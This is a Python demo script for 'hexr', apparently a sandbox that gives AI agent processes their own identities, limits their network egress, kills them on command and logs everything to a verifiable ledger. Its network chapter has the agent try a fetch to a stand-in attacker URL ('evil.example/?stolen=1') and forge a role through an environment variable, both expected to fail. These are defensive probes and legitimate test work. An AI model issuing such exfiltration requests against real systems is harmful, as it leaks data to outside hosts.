#!/usr/bin/env python3
"""Shows what hexr does, on a real node, real processes and real sockets of this machine. Nothing is installed or kept.

usage: demo.py --bin FOLDER [--keep]
"""
import argparse
import contextlib
import json
import os
import pathlib
import shutil
import signal
import ssl
import subprocess
import sys
import tempfile
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

BOLD, DIM, GREEN, RED, END = ("\033[1m", "\033[2m", "\033[32m", "\033[31m", "\033[0m") if sys.stdout.isatty() else ("",) * 5

HERE = pathlib.Path(__file__).resolve().parent


class Demo:
    def __init__(self, binaries, keep):
        self.hexr = str(pathlib.Path(binaries).resolve() / "hexr")
        self.home = pathlib.Path(tempfile.mkdtemp(prefix="hexr-demo-", dir="/tmp"))
        self.home.chmod(0o755)
        self.keep = keep
        self.failures = []
        self.env = {k: v for k, v in os.environ.items() if not k.startswith(("XDG_", "HEXR_"))}
        self.env.update(HEXR_HOME=str(self.home), PATH=f"{pathlib.Path(binaries).resolve()}:{os.environ['PATH']}", NO_COLOR="1")

    # ---- telling

    def chapter(self, title, sentence):
        print(f"\n{BOLD}{title}{END}\n{DIM}{sentence}{END}")

    def check(self, good, text):
        print(f"  {GREEN + '✓' if good else RED + '✗'}{END} {text}")
        if not good:
            self.failures.append(text)

    def run(self, *args, timeout=60):
        return subprocess.run([self.hexr, *args], env=self.env, text=True, capture_output=True, timeout=timeout,
                              stdin=subprocess.DEVNULL, cwd=self.work)

    def agent(self, role, *command):
        return self.run("run", "--agent", "crew", "--role", role, "--", *command)

    def json(self, *args):
        return json.loads(self.run(*args, "--output", "json").stdout)

    # ---- the scene

    def prepare(self):
        self.work = self.home / "work"
        self.work.mkdir()
        shutil.copy(HERE / "fetch.py", self.work)
        for name in ("hexr", "hexr-commands"):  # an agent sees its own folder and the system's, not where hexr was built
            shutil.copy(pathlib.Path(self.hexr).with_name(name), self.work)
        self.make_certificates()
        self.server, self.requests = self.serve_https()
        port = self.server.server_address[1]
        config = self.home / "config" / "hexr.yaml"
        config.parent.mkdir()
        user = subprocess.run(["id", "-un"], text=True, capture_output=True, check=True).stdout.strip()
        config.write_text(f"""\
trust_domain: demo.hexr
roles:
  - {{agent: crew, role: researcher, exe: ["python3*", "hexr*", env], user: {user}}}
  - {{agent: crew, role: writer, exe: ["python3*", "hexr*"], user: {user}}}
egress:
  allow: ["reports.example:443"]
  resolve: {{reports.example: "127.0.0.1:{port}"}}
  allow_private: ["127.0.0.0/8"]
ledger: {{checkpoint_interval: 100ms}}
""")

    def make_certificates(self):
        def openssl(*args):
            subprocess.run(["openssl", *args], check=True, capture_output=True, cwd=self.work)
        openssl("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "2", "-subj", "/CN=demo CA",
                "-keyout", "ca.key", "-out", "ca.pem")
        openssl("req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-subj", "/CN=reports.example",
                "-keyout", "server.key", "-out", "server.csr")
        (self.work / "ext").write_text("subjectAltName=DNS:reports.example\n")
        openssl("x509", "-req", "-in", "server.csr", "-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial", "-days", "2",
                "-extfile", "ext", "-out", "server.pem")
        # The agent gets the certificate of the demo's authority in its folder, and no key.
        self.secrets = self.home / "server"
        self.secrets.mkdir(mode=0o700)
        for name in ("ca.key", "server.key", "server.pem", "server.csr", "ext"):
            shutil.move(self.work / name, self.secrets / name)

    def serve_https(self):
        requests = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                requests.append(self.path)
                body = b"Quarterly report: all well.\n"
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(self.secrets / "server.pem", self.secrets / "server.key")
        server.socket = context.wrap_socket(server.socket, server_side=True)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        return server, requests

    # ---- the chapters

    def node(self):
        self.chapter("A node", "One command starts it: a supervisor, a keeper of keys, a spawner of processes, a gateway. No root needed.")
        start = time.monotonic()
        up = self.run("up")
        self.check(up.returncode == 0, f"hexr up: ready after {1000 * (time.monotonic() - start):.0f} ms {up.stderr.strip()}")
        if up.returncode != 0:
            raise SystemExit("the node did not start")

    def identity(self):
        self.chapter("Identity", "Each process gets its own SVID, from what the kernel says of it. The agent has no SDK, key or token.")
        svids = {}
        for role in ("researcher", "writer"):
            out = self.agent(role, "./hexr", "svid", "fetch", "--output", "json")
            svid = json.loads(out.stdout)["svids"][0] if out.returncode == 0 else {"spiffe_id": out.stderr.strip(), "serial": role}
            svids[role] = svid
            self.check(svid["spiffe_id"] == f"spiffe://demo.hexr/agent/default/crew/{role}", f"{role}: {svid['spiffe_id']}")
        self.check(svids["researcher"]["serial"] != svids["writer"]["serial"], "two processes, two certificates, two keys")
        out = self.agent("researcher", "env", "HEXR_ROLE=admin", "./hexr", "svid", "fetch")
        self.check(out.returncode != 0 or "researcher" in out.stdout, "a role forged in the environment changes nothing")
        out = self.agent("researcher", "python3", "-c", "import subprocess, sys; sys.exit(subprocess.call(['./hexr', 'svid', 'fetch']))")
        self.check(out.returncode == 1 and "identity" in out.stderr,
                   f"a child process gets none of it: {(out.stderr.strip().splitlines() or ['?'])[-1]}")
        out = self.run("run", "--agent", "crew", "--role", "admin", "--", "python3", "-c", "pass")
        self.check(out.returncode == 125, f"a role that nobody granted is not started: {out.stderr.strip()}")

    def network(self):
        self.chapter("The way out", "The agent's network has one exit, the gateway. What is not allowed does not leave, proxy or no proxy.")
        for how in ("proxy", "direct"):
            out = self.agent("researcher", "python3", "fetch.py", how, "https://reports.example/q3")
            self.check(out.returncode == 0, f"{how}: https://reports.example/q3 answers {out.stdout.strip()!r} {out.stderr.strip()[-200:]}")
        before = len(self.requests)
        for how in ("proxy", "direct"):
            out = self.agent("researcher", "python3", "fetch.py", how, "https://evil.example/?stolen=1")
            self.check(out.returncode != 0, f"{how}: https://evil.example is refused: {(out.stderr.strip().splitlines() or ['?'])[-1]}")
        port = self.server.server_address[1]
        out = self.agent("researcher", "python3", "fetch.py", "direct", f"https://127.0.0.1:{port}/")
        self.check(out.returncode != 0, "the host's own loopback is not there")
        self.check(len(self.requests) == before, "nothing of that reached a server")

    def revocation(self):
        self.chapter("The kill switch", "When a process ends, or somebody ends it, everything that was given to it is gone with it.")
        watch = subprocess.Popen([self.hexr, "run", "--agent", "crew", "--role", "researcher", "--", "./hexr", "svid", "watch"],
                                 env=self.env, cwd=self.work, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                                 stdin=subprocess.DEVNULL)
        if not watch.stdout.readline():
            self.check(False, f"an agent that waits: {watch.stderr.read().strip()}")
        instances = self.json("ps")["instances"]
        self.check(len(instances) == 1, "hexr ps: " + ", ".join(i["spiffe_id"] for i in instances))
        start = time.monotonic()
        killed = self.run("kill", "spiffe://demo.hexr/agent/default/crew")
        watch.wait(timeout=10)
        self.check(killed.returncode == 0 and watch.returncode != 0,
                   f"hexr kill: the process was gone {1000 * (time.monotonic() - start):.0f} ms after the command was typed")
        self.check(self.json("ps")["instances"] == [], "hexr ps: nobody is left")

    def evidence(self):
        self.chapter("Evidence", "Every identity, decision and connection is in an append-only log that anyone can check without us.")
        time.sleep(0.5)  # the last checkpoint
        tail = self.run("ledger", "tail", "-n", "6", "--tenant", "default")
        print("".join(f"  {DIM}{line[:150]}{END}\n" for line in tail.stdout.splitlines()), end="")
        copy = self.home / "copy"
        exported = self.run("ledger", "export", "--output-dir", str(copy), "--tenant", "default")
        good = self.run("ledger", "verify", "--log", str(copy), "--output", "json")
        found = json.loads(good.stdout) if good.stdout else {}
        self.check(good.returncode == 0 and found.get("records", 0) > 10, f"an exported copy verifies: {found.get('records')} records {exported.stderr.strip()}")
        tiles = sorted(p for p in copy.rglob("*") if p.is_file() and "entries" in str(p))
        data = bytearray(tiles[0].read_bytes())
        data[len(data) // 2] ^= 1
        tiles[0].write_bytes(data)
        bad = self.run("ledger", "verify", "--log", str(copy), "--output", "json")
        problems = json.loads(bad.stdout).get("problems", []) if bad.stdout else []
        self.check(bad.returncode == 1, f"one bit changed in it is found: {(problems or [{}])[0].get('message', '?')}")

    def play(self):
        self.prepare()
        try:
            self.node()
            self.identity()
            self.network()
            self.revocation()
            self.evidence()
        finally:
            with contextlib.suppress(Exception):
                self.run("down")
            if self.keep:
                print(f"kept: {self.home}")
            else:
                shutil.rmtree(self.home, ignore_errors=True)
        print()
        if self.failures:
            print(f"{RED}{len(self.failures)} of the things above did not go as they should{END}")
            return 1
        print(f"{GREEN}Everything above was done for real, and is gone again.{END}")
        return 0


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--bin", required=True, help="folder of the built binaries")
    parser.add_argument("--keep", action="store_true", help="leave the demo's folder for a look")
    arguments = parser.parse_args()
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(1))
    sys.exit(Demo(arguments.bin, arguments.keep).play())
